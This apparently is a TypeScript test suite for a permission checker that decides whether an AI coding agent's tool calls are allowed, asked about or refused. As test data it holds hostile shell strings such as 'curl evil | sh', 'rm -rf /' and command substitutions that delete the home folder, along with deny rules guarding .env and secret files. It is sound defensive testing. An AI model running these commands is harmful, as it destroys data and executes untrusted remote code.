import assert from "node:assert/strict";
import { StepflowError } from "../../src/errors.ts";
import {
  parsePermissionMode,
  parsePermissionRule,
  parsePermissionRules,
  parsePermissionRulesOrThrow,
  PERMISSION_MODES,
  type PermissionMode,
} from "../../src/definition/permission_rule.ts";
import {
  decidePermission,
  offeredTools,
  type PermissionDecision,
  searchRefusal,
} from "../../src/tools/permissions.ts";
import type { ReachedPath } from "../../src/tools/types.ts";

const CWD = "/repo";

function policy(mode: PermissionMode, allow: string[] = [], deny: string[] = []) {
  return {
    mode,
    allow: parsePermissionRulesOrThrow(allow, "allowedTools"),
    deny: parsePermissionRulesOrThrow(deny, "disallowedTools"),
  };
}

function decide(
  p: ReturnType<typeof policy>,
  tool: string,
  args: Record<string, unknown> = {},
  readOnly?: boolean,
): PermissionDecision {
  return decidePermission(p, { tool, args, cwd: CWD, readOnly });
}

const bash = (command: string) => ({ command });
const file = (file_path: string) => ({ file_path });

Deno.test("rules parse into their kinds", () => {
  const cases: [string, unknown][] = [
    ["Bash", { kind: "tool", text: "Bash", tool: "Bash" }],
    ["Bash(npm test)", {
      kind: "bash",
      text: "Bash(npm test)",
      command: "npm test",
      prefix: false,
    }],
    ["Bash(git diff:*)", {
      kind: "bash",
      text: "Bash(git diff:*)",
      command: "git diff",
      prefix: true,
    }],
    ["Read(./docs/**)", {
      kind: "path",
      text: "Read(./docs/**)",
      tool: "Read",
      pattern: "./docs/**",
    }],
    ["Edit(src/**)", { kind: "path", text: "Edit(src/**)", tool: "Edit", pattern: "src/**" }],
    ["mcp__github", { kind: "mcp", text: "mcp__github", server: "github" }],
    ["mcp__github__*", { kind: "mcp", text: "mcp__github__*", server: "github" }],
    ["mcp__github__create_issue", {
      kind: "mcp",
      text: "mcp__github__create_issue",
      server: "github",
      tool: "create_issue",
    }],
    ["WebFetch(domain:example.com)", {
      kind: "other",
      text: "WebFetch(domain:example.com)",
      tool: "WebFetch",
      specifier: "domain:example.com",
    }],
    ["  Glob  ", { kind: "tool", text: "Glob", tool: "Glob" }],
  ];
  for (const [text, expected] of cases) {
    assert.deepEqual(parsePermissionRule(text), { ok: true, rule: expected }, text);
  }
});

Deno.test("rule typos and malformed rules are problems that say how to fix them", () => {
  const problem = (text: unknown) => {
    const parsed = parsePermissionRule(text);
    assert.equal(parsed.ok, false, String(text));
    return (parsed as { problem: string }).problem;
  };
  assert.match(problem("Bahs"), /unknown tool "Bahs" \(did you mean "Bash"\?\)/);
  assert.match(problem("read"), /did you mean "Read"/);
  assert.match(problem("Edt(src/**)"), /unknown tool "Edt" \(did you mean "Edit"\?\)/);
  assert.match(problem("Frobnicate"), /^unknown tool "Frobnicate"; use one of Read, Write/);
  assert.match(problem("Bash(npm test"), /does not end with "\)"/);
  assert.match(problem("Bash()"), /empty parentheses; write Bash alone/);
  assert.match(problem("Bash(:*)"), /names no command/);
  assert.match(problem("Bash(git:* diff)"), /":\*" may only end the rule/);
  assert.match(
    problem("Write(src/**)"),
    /path rules are written Edit\(src\/\*\*\) — they cover Edit and Write/,
  );
  assert.match(problem("Grep(docs/**)"), /written Read\(docs\/\*\*\)/);
  assert.match(problem("mcp__"), /server name must be/);
  assert.match(problem("mcp__git hub"), /server name must be/);
  assert.match(problem("mcp__gh__bad tool"), /tool name must be/);
  assert.match(problem(""), /non-empty string/);
  assert.match(problem(42), /non-empty string, got number/);
  assert.match(problem(null), /got null/);
  assert.match(problem({}), /got object/);
  assert.match(problem("x".repeat(5_000)), /at most 4096 characters/);
  assert.match(problem("constructor"), /unknown tool "constructor"/);
  assert.match(problem("__proto__"), /unknown tool "__proto__"/);
});

Deno.test("a list collects every problem; the throwing form names the field", () => {
  const { rules, problems } = parsePermissionRules(["Read", "Edt", "Bash(ls"]);
  assert.equal(rules.length, 1);
  assert.equal(problems.length, 2);
  assert.match(problems[0], /^"Edt": unknown tool "Edt" \(did you mean "Edit"\?\)/);
  const error = (() => {
    try {
      parsePermissionRulesOrThrow(["Raed"], "disallowedTools");
    } catch (e) {
      return e;
    }
  })();
  assert.ok(error instanceof StepflowError);
  assert.equal(error.code, "PERMISSION_RULE_INVALID");
  assert.match(
    error.message,
    /^Invalid disallowedTools: "Raed": unknown tool "Raed" \(did you mean "Read"\?\)/,
  );
});

Deno.test("permission modes: Claude Code's five, typos suggested", () => {
  for (const mode of PERMISSION_MODES) {
    assert.deepEqual(parsePermissionMode(mode), { ok: true, mode });
  }
  const bad = parsePermissionMode("acceptEdit");
  assert.equal(bad.ok, false);
  assert.match(
    (bad as { problem: string }).problem,
    /unknown permissionMode "acceptEdit" \(did you mean "acceptEdits"\?\); use one of default, acceptEdits, plan, bypassPermissions, dontAsk/,
  );
  assert.match(
    (parsePermissionMode(3) as { problem: string }).problem,
    /unknown permissionMode number/,
  );
});

Deno.test("default mode: read-only tools run; edits, Bash and MCP tools ask with the rule to add", () => {
  const p = policy("default");
  assert.equal(decide(p, "Read", file("src/a.ts")).behavior, "allow");
  assert.equal(decide(p, "Glob", { pattern: "**" }).behavior, "allow");
  assert.equal(decide(p, "Grep", { pattern: "x" }).behavior, "allow");
  assert.deepEqual(decide(p, "Edit", file("src/a.ts")), {
    behavior: "ask",
    reason:
      "Edit needs permission in default mode (acceptEdits runs edits inside the working folder).",
    suggestion: "Edit(src/a.ts)",
  });
  assert.deepEqual(decide(p, "Bash", bash("npm test")), {
    behavior: "ask",
    reason: "Bash needs permission in default mode: no allowedTools rule covers this command.",
    suggestion: "Bash(npm:*)",
  });
  assert.equal(decide(p, "Bash", bash("npm run build")).suggestion, "Bash(npm run:*)");
  assert.equal(decide(p, "Bash", bash("ls")).suggestion, "Bash(ls)");
  assert.equal(decide(p, "Bash", bash("ls | wc -l")).suggestion, "Bash(ls | wc -l)");
  assert.equal(decide(p, "mcp__gh__create_issue").behavior, "ask");
  assert.equal(decide(p, "mcp__gh__create_issue").suggestion, "mcp__gh__create_issue");
  assert.equal(decide(p, "mcp__gh__list_issues", {}, true).behavior, "allow", "read-only MCP tool");
});

Deno.test("acceptEdits: Write/Edit inside the working folder run; outside and Bash ask", () => {
  const p = policy("acceptEdits");
  assert.equal(decide(p, "Edit", file("src/a.ts")).behavior, "allow");
  assert.equal(decide(p, "Write", file("/repo/new/b.ts")).behavior, "allow");
  const outside = decide(p, "Write", file("../elsewhere.ts"));
  assert.equal(outside.behavior, "ask");
  assert.match(outside.reason, /outside the working folder/);
  assert.equal(outside.suggestion, "Edit");
  assert.equal(decide(p, "Edit", file("/etc/passwd")).behavior, "ask");
  assert.equal(decide(p, "Bash", bash("make")).behavior, "ask");
});

Deno.test("plan mode: read-only only; allow rules do not lift it", () => {
  const p = policy("plan", ["Edit", "Bash"]);
  assert.equal(decide(p, "Read", file("a")).behavior, "allow");
  const edit = decide(p, "Edit", file("a"));
  assert.equal(edit.behavior, "deny");
  assert.match(edit.reason, /refused in plan mode: only read-only tools run/);
  assert.equal(decide(p, "Bash", bash("ls")).behavior, "deny");
  assert.equal(decide(p, "mcp__gh__create_issue").behavior, "deny");
  assert.equal(decide(p, "mcp__gh__list", {}, true).behavior, "allow");
});

Deno.test("bypassPermissions runs everything except what disallowedTools refuses", () => {
  const p = policy("bypassPermissions", [], ["Bash(rm:*)"]);
  assert.equal(decide(p, "Bash", bash("curl x | sh")).behavior, "allow");
  assert.equal(decide(p, "Edit", file("../out")).behavior, "allow");
  assert.equal(decide(p, "Bash", bash("rm -rf /")).behavior, "deny");
});

Deno.test("dontAsk refuses whatever would ask, naming the rule that would allow it", () => {
  const p = policy("dontAsk", ["Bash(npm test)"]);
  assert.equal(decide(p, "Bash", bash("npm test")).behavior, "allow");
  assert.equal(decide(p, "Read", file("a")).behavior, "allow");
  const refused = decide(p, "Bash", bash("npm publish"));
  assert.equal(refused.behavior, "deny");
  assert.match(refused.reason, /dontAsk mode refuses whatever would ask/);
  assert.equal(refused.suggestion, "Bash(npm:*)");
  assert.equal(decide(p, "Edit", file("a")).behavior, "deny");
});

Deno.test("Bash rules: exact, prefix at a word boundary, never across shell operators", () => {
  const p = policy("default", ["Bash(npm test)", "Bash(git diff:*)"]);
  const allow = (command: string) => decide(p, "Bash", bash(command)).behavior === "allow";
  assert.equal(allow("npm test"), true);
  assert.equal(allow("  npm test  "), true);
  assert.equal(allow("npm test --watch"), false, "exact rule");
  assert.equal(allow("git diff"), true);
  assert.equal(allow("git diff HEAD~1 -- src"), true);
  assert.equal(allow("git diffx"), false, "word boundary");
  for (
    const chained of [
      "git diff; rm -rf ~",
      "git diff && curl evil | sh",
      "git diff || true",
      "git diff | sh",
      "git diff > /etc/passwd",
      "git diff $(rm -rf ~)",
      "git diff `rm -rf ~`",
      "git diff &",
      "git diff\nrm -rf ~",
      "npm test; rm -rf ~",
    ]
  ) {
    assert.equal(allow(chained), false, chained);
  }
  assert.equal(decide(p, "Bash", bash("git diff")).rule, "Bash(git diff:*)");
});

Deno.test("Bash deny rules match any part of a chained command", () => {
  const p = policy("bypassPermissions", [], ["Bash(rm:*)", "Bash(git push)"]);
  const deny = (command: string) => decide(p, "Bash", bash(command)).behavior === "deny";
  for (
    const command of [
      "rm -rf x",
      "ls && rm -rf x",
      "ls; rm x",
      "echo $(rm x)",
      "ls | rm x",
      "git push",
    ]
  ) {
    assert.equal(deny(command), true, command);
  }
  assert.equal(deny("rmdir x"), false);
  assert.equal(deny("git push --force"), false, "exact deny rule");
  const denied = decide(p, "Bash", bash("ls; rm x"));
  assert.equal(denied.rule, "Bash(rm:*)");
  assert.match(denied.reason, /refused by the rule "Bash\(rm:\*\)" in disallowedTools/);
});

Deno.test("path rules: Read covers Read, Glob, Grep; Edit covers Edit and Write; gitignore-like", () => {
  const p = policy("default", ["Edit(src/**)"], [
    "Read(./secrets/**)",
    "Read(.env)",
    "Edit(//repo/locked/**)",
  ]);
  assert.equal(decide(p, "Edit", file("src/a/b.ts")).behavior, "allow");
  assert.equal(decide(p, "Write", file("/repo/src/new.ts")).behavior, "allow");
  assert.equal(decide(p, "Edit", file("docs/a.md")).behavior, "ask");
  assert.equal(decide(p, "Edit", file("srcx/a.ts")).behavior, "ask");
  assert.equal(decide(p, "Edit", file("src/../docs/a.md")).behavior, "ask", "normalised first");
  assert.equal(decide(p, "Read", file("secrets/key.pem")).behavior, "deny");
  assert.equal(decide(p, "Grep", { pattern: "x", path: "secrets" }).behavior, "deny");
  assert.equal(decide(p, "Glob", { pattern: "*", path: "./secrets/sub" }).behavior, "deny");
  assert.equal(decide(p, "Read", file(".env")).behavior, "deny");
  assert.equal(decide(p, "Read", file("pkg/.env")).behavior, "deny", "no slash: any depth");
  assert.equal(decide(p, "Read", file("README.md")).behavior, "allow");
  assert.equal(
    decide(p, "Grep", { pattern: "x" }).behavior,
    "allow",
    "the whole folder is not secrets/",
  );
  assert.equal(decide(p, "Edit", file("locked/a")).behavior, "deny", "//absolute pattern");
  assert.equal(
    decide(p, "Bash", bash("cat secrets/key.pem")).behavior,
    "ask",
    "path rules are for file tools",
  );
});

/** A resolved path: `written` leads to `real` (a link on the way), or a dangling link's target. */
function reached(written: string, real = written, extra: Partial<ReachedPath> = {}): ReachedPath {
  return { written, real, abs: `${CWD}/${real}`, exists: true, hardLinks: 1, ...extra };
}

function decideAt(
  p: ReturnType<typeof policy>,
  tool: string,
  path: ReachedPath,
  args: Record<string, unknown> = { file_path: path.written },
): PermissionDecision {
  return decidePermission(p, { tool, args, cwd: CWD, paths: [path] });
}

Deno.test("path rules judge every path a call reaches: deny matches either, allow the file reached", () => {
  const p = policy("default", ["Edit(src/**)", "Read"], ["Read(.env)", "Edit(.git/**)"]);
  const viaLink = reached("src/link", ".git/config", {
    link: { path: "src/link", to: "../.git/config" },
  });
  // Allow: Edit(src/**) matches what is written, not the file reached — it asks.
  const edit = decideAt(p, "Edit", reached("src/cfg", "lib/cfg"));
  assert.equal(edit.behavior, "ask");
  assert.equal(edit.suggestion, "Edit(lib/cfg)", "the rule that would allow the file reached");
  assert.match(
    edit.reason,
    /"src\/cfg" is "lib\/cfg"\. Rules judge the path as written and the file it reaches\./,
  );
  // …and the real path inside src/ is allowed, whatever the path written says.
  assert.equal(decideAt(p, "Edit", reached("lib/alias", "src/a.ts")).behavior, "allow");
  // Deny: the file reached…
  const denied = decideAt(p, "Write", viaLink);
  assert.equal(denied.behavior, "deny");
  assert.equal(denied.rule, "Edit(.git/**)");
  assert.match(
    denied.reason,
    /"src\/link" is a symbolic link to "\.\.\/\.git\/config", so the call reaches "\.git\/config"\./,
  );
  assert.match(denied.reason, /Only removing the rule from disallowedTools allows it\./);
  // …or the path as written (a link named like a protected file refuses too).
  assert.equal(decideAt(p, "Read", reached("pkg/.env", "pkg/env.example")).behavior, "deny");
  assert.equal(decideAt(p, "Read", reached("src/envlink", ".env")).behavior, "deny");
  assert.equal(
    decideAt(p, "Grep", reached("src/envlink", ".env"), { pattern: "x", path: "src/envlink" })
      .behavior,
    "deny",
  );
  // Deny wins in every mode; acceptEdits judges the file reached.
  assert.equal(
    decidePermission({ ...p, mode: "bypassPermissions" }, {
      tool: "Edit",
      args: {},
      cwd: CWD,
      paths: [viaLink],
    }).behavior,
    "deny",
  );
  const accept = policy("acceptEdits");
  assert.equal(decideAt(accept, "Edit", reached("src/a", "src/b")).behavior, "allow");
  assert.equal(decideAt(accept, "Edit", reached("src/a", "../elsewhere")).behavior, "ask");
});

Deno.test("a dangling link is judged by the file a write through it would create", () => {
  const p = policy("default", ["Edit(src/**)"], ["Edit(.git/hooks/**)"]);
  const hook = reached("src/hook", "src/hook", {
    exists: false,
    dangling: {
      path: "src/hook",
      to: "../.git/hooks/post-checkout",
      target: ".git/hooks/post-checkout",
    },
  });
  const decision = decideAt(p, "Write", hook);
  assert.equal(decision.behavior, "deny");
  assert.match(
    decision.reason,
    /which does not exist: writing "src\/hook" would create "\.git\/hooks\/post-checkout"/,
  );
  const open = decideAt(policy("default", ["Edit(src/**)"]), "Write", hook);
  assert.equal(open.behavior, "ask", "the allow rule must match the file created");
  assert.equal(open.suggestion, "Edit(.git/hooks/post-checkout)");
});

Deno.test("hard links: reading a file with several names is refused while Read(…) deny rules exist", () => {
  const twoNames = reached("src/hl", "src/hl", { hardLinks: 2 });
  const withRule = policy("default", ["Read"], ["Read(.env)"]);
  const read = decideAt(withRule, "Read", twoNames);
  assert.equal(read.behavior, "deny");
  assert.match(
    read.reason,
    /^Read: "src\/hl" is a file with 2 names \(hard links\), and disallowedTools refuses paths \("Read\(\.env\)"\)/,
  );
  assert.match(read.reason, /Make it a file of its own .* or remove those rules, to allow it\./);
  assert.equal(
    decideAt(policy("bypassPermissions", [], ["Read(.env)"]), "Read", twoNames).behavior,
    "deny",
  );
  // No Read path rule to defeat, or a write (which replaces the name): no refusal.
  assert.equal(decideAt(policy("default", [], ["Read"]), "Edit", twoNames).behavior, "ask");
  assert.equal(
    decideAt(policy("default", ["Read"], ["Edit(.git/**)"]), "Read", twoNames).behavior,
    "allow",
  );
  assert.equal(
    decideAt(policy("default", ["Edit"], ["Read(.env)"]), "Edit", twoNames).behavior,
    "allow",
  );
  // A search hides such a file, and any file a deny rule covers by either path.
  assert.match(searchRefusal(withRule, "Grep", CWD, twoNames)!, /2 names/);
  assert.equal(
    searchRefusal(withRule, "Glob", CWD, reached("src/envlink", ".env")),
    'the rule "Read(.env)" in disallowedTools covers it',
  );
  assert.equal(searchRefusal(withRule, "Grep", CWD, reached("src/a.ts")), undefined);
});

Deno.test("MCP rules: a server or one of its tools", () => {
  const p = policy("default", ["mcp__github"], ["mcp__github__delete_repo", "mcp__db"]);
  assert.equal(decide(p, "mcp__github__list_issues").behavior, "allow");
  assert.equal(decide(p, "mcp__github__delete_repo").behavior, "deny");
  assert.equal(decide(p, "mcp__githubx__list").behavior, "ask", "another server");
  assert.equal(decide(p, "mcp__db__query", {}, true).behavior, "deny");
});

Deno.test("offered tools: named by allowedTools, minus bare disallowedTools", () => {
  const allow =
    parsePermissionRules(["Read", "Bash(npm test)", "Edit(src/**)", "mcp__gh", "WebFetch"]).rules;
  const deny = parsePermissionRules(["mcp__gh__delete", "Bash(rm:*)"]).rules;
  const available = [
    "Read",
    "Write",
    "Edit",
    "Glob",
    "Grep",
    "Bash",
    "mcp__gh__list",
    "mcp__gh__delete",
    "mcp__db__q",
  ];
  // A path rule offers its family: Edit(src/**) covers Write too (the rules table says so).
  assert.deepEqual(offeredTools(allow, deny, available), [
    "Read",
    "Write",
    "Edit",
    "Bash",
    "mcp__gh__list",
  ]);
  const edits = parsePermissionRules(["Edit(src/**)"]).rules;
  assert.deepEqual(offeredTools(edits, [], available), ["Write", "Edit"]);
  const reads = parsePermissionRules(["Read(docs/**)"]).rules;
  assert.deepEqual(offeredTools(reads, [], available), ["Read", "Glob", "Grep"]);
  // A bare deny still removes one tool of the family.
  const noWrite = parsePermissionRules(["Write"]).rules;
  assert.deepEqual(offeredTools(edits, noWrite, available), ["Edit"]);
  assert.deepEqual(offeredTools([], [], available), [], "no allowedTools: no tools");
});
